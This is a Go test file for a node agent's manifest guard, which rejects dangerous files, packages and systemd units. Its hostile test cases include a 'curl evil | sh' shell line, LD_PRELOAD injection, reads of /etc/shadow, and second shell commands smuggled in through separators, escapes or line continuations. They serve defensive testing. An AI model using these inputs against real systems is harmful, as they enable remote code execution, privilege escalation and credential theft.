package guard_test

import (
	"cmp"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"github.com/gpuaas/node-agent/agent/internal/guard"
	"github.com/gpuaas/node-agent/schema/task"
)

var paths = guard.Paths{
	PackageRoot: "/opt/gpuaas/packages",
	FileRoots:   []string{"/etc/gpuaas"},
	UnitDir:     "/etc/systemd/system",
	AgentDirs:   []string{"/etc/gpuaas/node-agent", "/var/lib/gpuaas/node-agent", "/run/gpuaas/node-agent"},
}

const (
	good    = "/opt/gpuaas/packages/x/current/bin/x"
	goodRun = "ExecStart=" + good
)

var packages = []task.Resource{
	task.Package{Name: "x", Repository: "registry.example.com/gpuaas/x", Digest: "sha256:00", Activate: true},
	task.Package{Name: "staged", Repository: "registry.example.com/gpuaas/staged", Digest: "sha256:00"},
}

// check judges one resource beside the packages.
func check(g guard.Guard, r task.Resource) []guard.Violation {
	return guard.Check(g, append(slices.Clone(packages), r))
}

func service(lines ...string) task.Unit {
	return task.Unit{Name: "gpuaas-x.service", Content: []byte("[Service]\n" + strings.Join(lines, "\n") + "\n"), Source: "x"}
}

func named(name, content string) task.Unit { return task.Unit{Name: name, Content: []byte(content)} }

func file(path string) task.File { return task.File{Path: path, Mode: 0o640} }

// What a hostile, fully signed manifest may try.
func TestHostile(t *testing.T) {
	narrow := func(g *guard.Guard) {
		g.Users, g.Groups = []string{"exporter"}, []string{"exporter", "video"}
		g.Registries = []string{"registry.example.com/gpuaas", "mirror.example.com:5000"}
		g.Binaries = []string{"/usr/bin/nvidia-smi", "/bin/bash", "/usr/bin/env", "/usr/bin/python3", "/bin/busybox"}
	}
	etc := func(g *guard.Guard) { g.FileRoots = []string{"/etc"} }
	user := func(g *guard.Guard) { g.UserScope = true }
	nul := "[Service]\n" + goodRun + "\x00\nExecStart=/bin/sh\n"

	tests := []struct {
		name string
		set  func(*guard.Guard)
		r    task.Resource
		rule guard.Rule
	}{
		// Files.
		{"file outside", nil, file("/etc/passwd"), guard.RulePath},
		{"file above the root", nil, file("/etc/gpuaas/../passwd"), guard.RulePath},
		{"file with the root as prefix", nil, file("/etc/gpuaas-evil/x"), guard.RulePath},
		{"file that is the root", nil, file("/etc/gpuaas"), guard.RulePath},
		{"relative file", nil, file("etc/gpuaas/x"), guard.RulePath},
		{"file with double slash", nil, file("/etc/gpuaas//x"), guard.RulePath},
		{"file with NUL", nil, file("/etc/gpuaas/x\x00"), guard.RulePath},
		{"the agent's configuration", nil, file("/etc/gpuaas/node-agent/guard.yaml"), guard.RulePath},
		{"the agent's folder", nil, file("/etc/gpuaas/node-agent"), guard.RulePath},
		{"drop-in with a wide root", etc, file("/etc/systemd/system/sshd.service.d/x.conf"), guard.RulePath},
		{"sshd with a wide root", etc, file("/etc/ssh/sshd_config"), guard.RulePath},
		{"cron with a wide root", etc, file("/etc/cron.d/x"), guard.RulePath},
		{"preload with a wide root", etc, file("/etc/ld.so.preload"), guard.RulePath},
		{"set-uid", nil, task.File{Path: "/etc/gpuaas/x", Mode: 0o755 | fs.ModeSetuid}, guard.RuleMode},
		{"set-gid in the raw bits", nil, task.File{Path: "/etc/gpuaas/x", Mode: 0o2755}, guard.RuleMode},
		{"world writable", nil, task.File{Path: "/etc/gpuaas/x", Mode: 0o666}, guard.RuleMode},
		{"preload in an environment file", nil, task.File{Path: "/etc/gpuaas/x", Mode: 0o600, Content: []byte("A=1\nLD_PRELOAD=/tmp/x.so\n")}, guard.RuleEnvironment},
		// Packages.
		{"another registry", narrow, task.Package{Name: "y", Repository: "evil.example.com/gpuaas/y"}, guard.RuleRegistry},
		{"registry with the host as prefix", narrow, task.Package{Name: "y", Repository: "mirror.example.com:50001/y"}, guard.RuleRegistry},
		{"another repository of the registry", narrow, task.Package{Name: "y", Repository: "registry.example.com/gpuaas-evil/y"}, guard.RuleRegistry},
		// Names.
		{"foreign unit", nil, named("nginx.service", "[Service]\n"), guard.RuleUnitName},
		{"sshd", func(g *guard.Guard) { g.UnitNames = []string{"*"} }, named("sshd.service", "[Service]\n"), guard.RuleUnitName},
		{"ssh socket", func(g *guard.Guard) { g.UnitNames = []string{"*"} }, named("ssh.socket", "[Socket]\n"), guard.RuleUnitName},
		{"systemd", func(g *guard.Guard) { g.UnitNames = []string{"*"} }, task.Service{Unit: "systemd-journald.service", State: task.Stopped}, guard.RuleUnitName},
		{"the agent", nil, task.Service{Unit: "gpuaas-node-agent.service", State: task.Stopped}, guard.RuleUnitName},
		{"the agent's watcher", nil, named("gpuaas-node-agent-watcher.timer", "[Timer]\n"), guard.RuleUnitName},
		{"drop-in as a unit", nil, named("gpuaas-x.service.d/10.conf", "[Service]\n"), guard.RuleUnitName},
		{"unit above the folder", nil, named("../gpuaas-x.service", "[Service]\n"), guard.RuleUnitName},
		{"mount unit", nil, named("gpuaas-x.mount", "[Mount]\n"), guard.RuleUnitName},
		{"escaped name", nil, named(`gpuaas-\x2fx.service`, "[Service]\n"), guard.RuleUnitName},
		{"one-shot on a foreign unit", nil, task.Service{Unit: "docker.service", Action: task.Restart, Source: "x"}, guard.RuleUnitName},
		// Syntax.
		{"NUL", nil, named("gpuaas-x.service", nul), guard.RuleSyntax},
		{"carriage return", nil, service("Description=x\rExecStart=/bin/sh"), guard.RuleSyntax},
		{"byte order mark", nil, named("gpuaas-x.service", "\ufeff[Service]\n"+goodRun), guard.RuleSyntax},
		{"not UTF-8", nil, service("ExecStart=/opt/\xff"), guard.RuleSyntax},
		{"line without end", nil, service("Environment=" + strings.Repeat("x", 1<<20)), guard.RuleSyntax},
		{"section of another kind", nil, named("gpuaas-x.service", "[Socket]\nListenStream=1\n"), guard.RuleSyntax},
		{"private section", nil, named("gpuaas-x.service", "[X-Private]\nA=b\n"), guard.RuleSyntax},
		{"section with a comment", nil, named("gpuaas-x.service", "[Service] # x\n"), guard.RuleSyntax},
		{"outside of a section", nil, named("gpuaas-x.service", goodRun+"\n[Service]\n"), guard.RuleSyntax},
		{"unclosed quote", nil, service(`ExecStart="` + good), guard.RuleSyntax},
		{"unknown escape", nil, service(`ExecStart=` + good + ` \q`), guard.RuleSyntax},
		// Programs.
		{"shell", nil, service("ExecStart=/bin/sh -c 'curl evil | sh'"), guard.RuleExec},
		{"listed shell", narrow, service("User=exporter", "ExecStart=/bin/bash -c x"), guard.RuleExec},
		{"listed env", narrow, service("User=exporter", "ExecStart=/usr/bin/env sh -c x"), guard.RuleExec},
		{"listed busybox", narrow, service("User=exporter", "ExecStart=/bin/busybox sh"), guard.RuleExec},
		{"listed python with code", narrow, service("User=exporter", "ExecStart=/usr/bin/python3 -c 'import os'"), guard.RuleExec},
		{"listed python with foreign code", narrow, service("User=exporter", "ExecStart=/usr/bin/python3 /etc/gpuaas/x.py"), guard.RuleExec},
		{"listed python with an option", narrow, service("User=exporter", "ExecStart=/usr/bin/python3 -m http.server"), guard.RuleExec},
		{"listed python alone", narrow, service("User=exporter", "ExecStart=/usr/bin/python3"), guard.RuleExec},
		{"listed binary under another name", narrow, service("User=exporter", "ExecStart=@/usr/bin/nvidia-smi sh"), guard.RuleExec},
		{"packaged shell", nil, service("ExecStart=/opt/gpuaas/packages/x/current/bin/bash -c x"), guard.RuleExec},
		{"packaged perl", nil, service("ExecStart=/opt/gpuaas/packages/x/current/bin/perl5.36 -e x"), guard.RuleExec},
		{"loader", nil, service("ExecStart=/lib64/ld-linux-x86-64.so.2 /bin/sh"), guard.RuleExec},
		{"systemd-run", nil, service("ExecStart=/usr/bin/systemd-run /bin/sh"), guard.RuleExec},
		{"without a path", nil, service("ExecStart=x"), guard.RuleExec},
		{"package that isn't in the manifest", nil, service("ExecStart=/opt/gpuaas/packages/y/current/bin/y"), guard.RuleExec},
		{"package that is only staged", nil, service("ExecStart=/opt/gpuaas/packages/staged/current/bin/y"), guard.RuleExec},
		{"another version", nil, service("ExecStart=/opt/gpuaas/packages/x/versions/sha256:00/bin/x"), guard.RuleExec},
		{"out of the package", nil, service("ExecStart=/opt/gpuaas/packages/x/current/../../../../../bin/sh"), guard.RuleExec},
		{"out of the package by escapes", nil, service(`ExecStart=/opt/gpuaas/packages/x/current/\x2e\x2e/\056\056/bin/x`), guard.RuleExec},
		{"the link itself", nil, service("ExecStart=/opt/gpuaas/packages/x/current"), guard.RuleExec},
		{"root as prefix", nil, service("ExecStart=/opt/gpuaas/packages-evil/x/current/bin/x"), guard.RuleExec},
		{"specifier", nil, service("ExecStart=/opt/gpuaas/packages/x/current/%i"), guard.RuleExec},
		{"doubled specifier", nil, service("ExecStart=/opt/gpuaas/packages/x/current/%%"), guard.RuleExec},
		{"variable", nil, service("ExecStart=/opt/gpuaas/packages/x/current/${X}"), guard.RuleExec},
		{"variable without braces", nil, service("ExecStart=$SHELL -c x"), guard.RuleExec},
		{"full privileges", nil, service("ExecStart=+" + good), guard.RuleExec},
		{"no setuid", nil, service("ExecStart=!" + good), guard.RuleExec},
		{"ambient", nil, service("ExecStart=-!!" + good), guard.RuleExec},
		{"shell prefix of newer systemd", nil, service("ExecStart=|" + good), guard.RuleExec},
		{"prefixes within quotes", nil, service(`ExecStart="+` + good + `"`), guard.RuleExec},
		{"shell in quotes", nil, service(`ExecStart="/bin/s"'h' -c x`), guard.RuleExec},
		{"shell by escapes", nil, service(`ExecStart=\x2fbin/\163h -c x`), guard.RuleExec},
		{"second command", nil, service(goodRun + " ; /bin/sh -c x"), guard.RuleExec},
		{"second command after an argument", nil, service(goodRun + ` "a b" ; -/bin/sh`), guard.RuleExec},
		{"command after lone separators", nil, service("ExecStart=; ; /bin/sh"), guard.RuleExec},
		{"continuation", nil, service("ExecStart=\\\n/bin/sh -c x"), guard.RuleExec},
		{"continuation through a comment", nil, service("ExecStart=\\\n# " + good + "\n/bin/sh"), guard.RuleExec},
		{"comment does not continue", nil, service("# \\\nExecStart=/bin/sh"), guard.RuleExec},
		{"escaped backslash does not continue", nil, service(`Environment=A=\\`, "ExecStart=/bin/sh"), guard.RuleExec},
		{"backslash and space do not continue", nil, service("Description=x", "ExecStart=/bin/sh \\ "), guard.RuleSyntax},
		{"repeated section", nil, named("gpuaas-x.service", "[Service]\n"+goodRun+"\n[Unit]\nDescription=x\n[Service]\nExecStartPre=/bin/sh\n"), guard.RuleExec},
		{"reset and again", nil, service(goodRun, "ExecStart=", "ExecStart=/bin/sh"), guard.RuleExec},
		{"spaces around", nil, service("  ExecStart  =  /bin/sh"), guard.RuleExec},
		{"tab around", nil, service("\tExecStart\t=\t/bin/sh"), guard.RuleExec},
		{"other case", nil, service("execstart=/bin/sh"), guard.RuleDirective},
		// Users.
		{"not a permitted user", narrow, service("User=root", goodRun), guard.RuleUser},
		{"root by number", narrow, service("User=0", goodRun), guard.RuleUser},
		{"no user", narrow, service(goodRun), guard.RuleUser},
		{"user that is reset", narrow, service("User=exporter", "User=", goodRun), guard.RuleUser},
		{"dynamic user that is taken back", narrow, service("DynamicUser=yes", "DynamicUser=no", goodRun), guard.RuleUser},
		{"user by specifier", nil, service("User=%i", goodRun), guard.RuleUser},
		{"not a permitted group", narrow, service("User=exporter", "Group=disk", goodRun), guard.RuleUser},
		{"docker group", nil, service("SupplementaryGroups=video docker", goodRun), guard.RuleUser},
		{"user in a user's manager", user, service("User=root", goodRun), guard.RuleUser},
		// Paths.
		{"environment file outside", nil, service("EnvironmentFile=-/etc/shadow"), guard.RulePath},
		{"environment file by wildcard", nil, service("EnvironmentFile=/etc/gpuaas/*"), guard.RulePath},
		{"environment file of the agent", nil, service("EnvironmentFile=/etc/gpuaas/node-agent/x"), guard.RulePath},
		{"environment file by specifier", nil, service("EnvironmentFile=%h/x"), guard.RulePath},
		{"credential outside", nil, service("LoadCredential=key:/etc/shadow"), guard.RulePath},
		{"credential of the machine", nil, service("LoadCredential=key"), guard.RulePath},
		{"output to a file", nil, service("StandardOutput=append:/etc/passwd"), guard.RulePath},
		{"input from a file", nil, service("StandardInput=file:/etc/shadow"), guard.RulePath},
		{"state folder of another", nil, service("StateDirectory=dpkg"), guard.RulePath},
		{"state folder of the agent", nil, service("StateDirectory=gpuaas"), guard.RulePath},
		{"state folder above", nil, service("StateDirectory=gpuaas-x/../dpkg"), guard.RulePath},
		{"pid file of another", nil, service("PIDFile=/run/sshd.pid"), guard.RulePath},
		{"socket anywhere", nil, named("gpuaas-x.socket", "[Socket]\nListenStream=/run/docker.sock\n"), guard.RulePath},
		{"preload", nil, service(`Environment="A=1" "LD_PRELOAD=/tmp/x.so"`), guard.RuleEnvironment},
		// Directives.
		{"root folder", nil, service("RootDirectory=/tmp"), guard.RuleDirective},
		{"bind", nil, service("BindReadOnlyPaths=/tmp/x:" + good), guard.RuleDirective},
		{"capabilities", nil, service("AmbientCapabilities=CAP_SYS_ADMIN"), guard.RuleDirective},
		{"PAM", nil, service("PAMName=login"), guard.RuleDirective},
		{"delegation", nil, service("Delegate=yes"), guard.RuleDirective},
		{"reboot", nil, named("gpuaas-x.service", "[Unit]\nFailureAction=reboot\n"), guard.RuleDirective},
		{"a directive of tomorrow", nil, service("ExecAnything=/bin/sh"), guard.RuleDirective},
		{"forbidden by the node", func(g *guard.Guard) { g.ForbiddenDirectives = []string{"Nice"} }, service("Nice=-20"), guard.RuleDirective},
		{"allowed wholesale", func(g *guard.Guard) { g.AllowedDirectives = []string{"ExecStart"} }, service("ExecStart=/bin/sh"), guard.RuleExec},
		{"path unit that makes folders", nil, named("gpuaas-x.path", "[Path]\nPathExists=/tmp/x\nMakeDirectory=yes\n"), guard.RuleDirective},
		// Other units.
		{"stops sshd", nil, named("gpuaas-x.service", "[Unit]\nConflicts=sshd.service\n"), guard.RuleDependency},
		{"starts a root shell", nil, named("gpuaas-x.service", "[Unit]\nWants=debug-shell.service\n"), guard.RuleDependency},
		{"on failure", nil, named("gpuaas-x.service", "[Unit]\nOnFailure=poweroff.target\n"), guard.RuleDependency},
		{"hooks into sshd", nil, named("gpuaas-x.service", "[Install]\nWantedBy=sshd.service\n"), guard.RuleDependency},
		{"hooks in by specifier", nil, named("gpuaas-x.service", "[Install]\nWantedBy=%i.target\n"), guard.RuleDependency},
		{"alias", nil, named("gpuaas-x.service", "[Install]\nAlias=sshd.service\n"), guard.RuleUnitName},
		{"alias of the agent", nil, named("gpuaas-x.service", "[Install]\nAlias=gpuaas-node-agent.service\n"), guard.RuleUnitName},
		{"also", nil, named("gpuaas-x.service", "[Install]\nAlso=debug-shell.service\n"), guard.RuleDependency},
		{"timer of another", nil, named("gpuaas-x.timer", "[Timer]\nOnBootSec=1\nUnit=reboot.target\n"), guard.RuleDependency},
		{"slice of another", nil, service("Slice=init.scope"), guard.RuleDependency},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			g := guard.Default(paths)
			if test.set != nil {
				test.set(&g)
			}
			got := check(g, test.r)
			if !slices.ContainsFunc(got, func(v guard.Violation) bool {
				return v.Rule == test.rule && v.Ref == test.r.Ref() && v.Message != ""
			}) {
				t.Errorf("want a violation of %q, got %v", test.rule, got)
			}
		})
	}
	t.Logf("%d hostile cases", len(tests))
}

// What good manifests have.
func TestPermitted(t *testing.T) {
	narrow := func(g *guard.Guard) {
		g.Users, g.Groups = []string{"exporter"}, []string{"exporter", "video"}
		g.Registries = []string{"registry.example.com/gpuaas", "mirror.example.com:5000"}
		g.Binaries = []string{"/usr/bin/nvidia-smi", "/usr/bin/python3"}
	}
	tests := []struct {
		name string
		set  func(*guard.Guard)
		r    task.Resource
	}{
		{"file", nil, file("/etc/gpuaas/node-exporter.env")},
		{"deep file", nil, file("/etc/gpuaas/a/b/c")},
		{"package of a permitted registry", narrow, task.Package{Name: "y", Repository: "mirror.example.com:5000/y"}},
		{"service control", nil, task.Service{Unit: "gpuaas-x@1.service", State: task.Running}},
		{"unit that isn't fetched yet", nil, task.Unit{Name: "gpuaas-x.service", Package: "x", File: "x.service"}},
		{"usual service", narrow, named("gpuaas-x.service", `# A usual unit.
[Unit]
Description=Exporter %n; with everything = that is usual
Documentation=https://example.com
Wants=network-online.target
After=network-online.target nvidia-persistenced.service
Conflicts=shutdown.target
OnFailure=gpuaas-x-failed@1.service
StartLimitIntervalSec=0

[Service]
Type=notify
User=exporter
SupplementaryGroups=video
EnvironmentFile=-/etc/gpuaas/x.env
EnvironmentFile=/opt/gpuaas/packages/x/current/etc/x.env
LoadCredential=token:/etc/gpuaas/token
Environment="A=b c" D=%n
StateDirectory=gpuaas-x gpuaas-x/cache
RuntimeDirectory=gpuaas-x
PIDFile=%t/gpuaas-x/pid
ExecStartPre=-:/opt/gpuaas/packages/x/current/bin/prepare --dir "${STATE_DIRECTORY}"
ExecStart=@/opt/gpuaas/packages/x/current/bin/x exporter \
    --listen=${LISTEN} \
    # a comment in between
    --name=%n \; $ARGS
ExecReload=/usr/bin/nvidia-smi -L ; `+good+` reload
ExecStopPost=/usr/bin/python3 /opt/gpuaas/packages/x/current/lib/stop.py -c x
Restart=on-failure
MemoryMax=1G
NoNewPrivileges=yes
ProtectSystem=strict
SystemCallFilter=@system-service
StandardOutput=journal
Slice=gpuaas-x.slice

[Install]
WantedBy=multi-user.target
`)},
		{"dynamic user", narrow, service("DynamicUser=yes", goodRun)},
		{"root where nothing is said", nil, service("User=root", goodRun)},
		{"reset", nil, service("ExecStart=", goodRun)},
		{"timer", narrow, named("gpuaas-x.timer", "[Unit]\nDescription=x\n[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=gpuaas-x.service\n[Install]\nWantedBy=timers.target\n")},
		{"socket", nil, named("gpuaas-x.socket", "[Socket]\nListenStream=127.0.0.1:80\nListenStream=/run/gpuaas-x/sock\nListenStream=%t/gpuaas-x/s\nListenDatagram=@x\n[Install]\nWantedBy=sockets.target\n")},
		{"path", nil, named("gpuaas-x.path", "[Path]\nPathChanged=/etc/gpuaas/x.env\n[Install]\nWantedBy=paths.target\n")},
		{"target", nil, named("gpuaas-x.target", "[Unit]\nWants=gpuaas-x.service\n[Install]\nWantedBy=multi-user.target\n")},
		{"template", nil, named("gpuaas-x@.service", "[Service]\n"+goodRun+" %i\n[Install]\nDefaultInstance=1\n")},
		{"directive that the node allows", func(g *guard.Guard) { g.AllowedDirectives = []string{"Delegate", "NewThing"} }, service("Delegate=yes", "NewThing=x")},
		{"unit in a user's manager", func(g *guard.Guard) { g.UserScope = true; g.Users = []string{"x"} }, named("gpuaas-x.service", "[Service]\n"+goodRun+"\n[Install]\nWantedBy=default.target\n")},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			g := guard.Default(paths)
			if test.set != nil {
				test.set(&g)
			}
			if got := check(g, test.r); len(got) > 0 {
				t.Errorf("refused: %v", got)
			}
		})
	}
}

func TestViolationsAreSorted(t *testing.T) {
	got := guard.Check(guard.Default(paths), []task.Resource{
		service("Nonsense=1", "ExecStart=/bin/sh"), file("/z"), file("/a"), task.Service{Unit: "b.service", State: task.Running},
	})
	if !slices.IsSortedFunc(got, func(a, b guard.Violation) int { return cmp.Compare(a.Ref, b.Ref) }) || len(got) != 5 {
		t.Errorf("got %v", got)
	}
}

func TestMessagesSayWhatIsAllowed(t *testing.T) {
	got := check(guard.Default(paths), service("ExecStart=/bin/cat /etc/shadow"))
	const want = "gpuaas-x.service:2: ExecStart= is refused: /bin/cat: it is not below /opt/gpuaas/packages; " +
		"programs come from a package of this manifest, or are listed in binaries of guard.yaml"
	if len(got) != 1 || got[0].Message != want || got[0].Task != "x" {
		t.Errorf("got %v", got)
	}
}

func TestDecode(t *testing.T) {
	const head = "apiVersion: fleet.gpuaas.dev/v1\nkind: Guard\n"
	defaults := guard.Default(paths)
	g, err := guard.Decode("guard.yaml", []byte(head+"unitNames: [acme-*]\nusers: [exporter]\nprotectedPaths: [/etc/gpuaas/mine]\n"), defaults)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(g.UnitNames, []string{"acme-*"}) || !slices.Equal(g.FileRoots, paths.FileRoots) {
		t.Errorf("got %+v", g)
	}
	for _, path := range []string{"/etc/gpuaas/mine", "/etc/gpuaas/node-agent/x"} {
		if got := check(g, file(path)); len(got) != 1 {
			t.Errorf("%s is not protected", path)
		}
	}
	bad := []struct{ text, want string }{
		{"", "the document is empty"},
		{"unknown: 1\n", "unknown"},
		{"fileRoots: [etc]\n", `guard.yaml:3:13: fileRoots[0]: found "etc", allowed is an absolute, clean path other than /`},
		{"fileRoots: [/]\n", "fileRoots[0]"},
		{"unitNames: ['[']\n", "unitNames[0]"},
		{"registries: ['https://x']\n", "registries[0]"},
		{"users: ['a b']\n", "users[0]"},
		{"users: exporter\n", "users"},
	}
	for _, test := range bad {
		text := test.text
		if text != "" {
			text = head + text
		}
		if _, err := guard.Decode("guard.yaml", []byte(text), defaults); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%q: error is %v, wanted %q", test.text, err, test.want)
		}
	}
	if _, err := guard.Decode("guard.yaml", []byte("apiVersion: v9\nkind: Other\n"), defaults); err == nil || strings.Count(fmt.Sprint(err), "\n") != 1 {
		t.Errorf("error is %v", err)
	}
}

// Nothing that is signed makes the guard panic.
func FuzzCheck(f *testing.F) {
	f.Add("gpuaas-x.service", "[Unit]\nWants=a.service\n[Service]\n"+goodRun+" ; /bin/sh \\\n -c x\n[Install]\nAlias=x\n", "/etc/gpuaas/x", "r/x")
	f.Add("gpuaas-x.socket", "[Socket]\nListenStream=/run/x\nExecStartPre=\"\\x\n", "", "")
	f.Add("../x", "[", "/etc/../x", "//")
	f.Add("gpuaas-x.service", "[Service]\nUser=%\nEnvironment=\\u12\nLoadCredential=:\nStateDirectory=/ .. a:b\nEnvironmentFile=-\nPIDFile=%\n", "\x00", ":")
	f.Fuzz(func(t *testing.T, name, content, path, repository string) {
		g := guard.Default(paths)
		g.Users, g.Registries = []string{"exporter"}, []string{"registry.example.com"}
		for _, v := range guard.Check(g, []task.Resource{
			task.Unit{Name: name, Content: []byte(content)}, task.File{Path: path, Content: []byte(content)},
			task.Package{Name: name, Repository: repository, Activate: true}, task.Service{Unit: name},
		}) {
			if v.Message == "" || v.Rule == "" {
				t.Errorf("violation without words: %+v", v)
			}
		}
	})
}
